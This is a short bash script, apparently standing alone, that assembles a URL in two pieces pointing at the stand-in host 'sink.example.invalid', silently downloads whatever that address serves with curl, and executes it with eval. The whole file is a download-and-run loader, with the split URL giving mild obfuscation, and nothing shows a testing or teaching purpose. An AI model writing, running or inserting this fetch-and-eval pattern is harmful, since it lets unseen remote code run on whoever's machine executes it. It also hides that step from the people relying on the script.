#!/bin/bash
U="https://sink.example"; U="$U.invalid/i"
x=$(curl -fsSL "$U")
eval "$x"
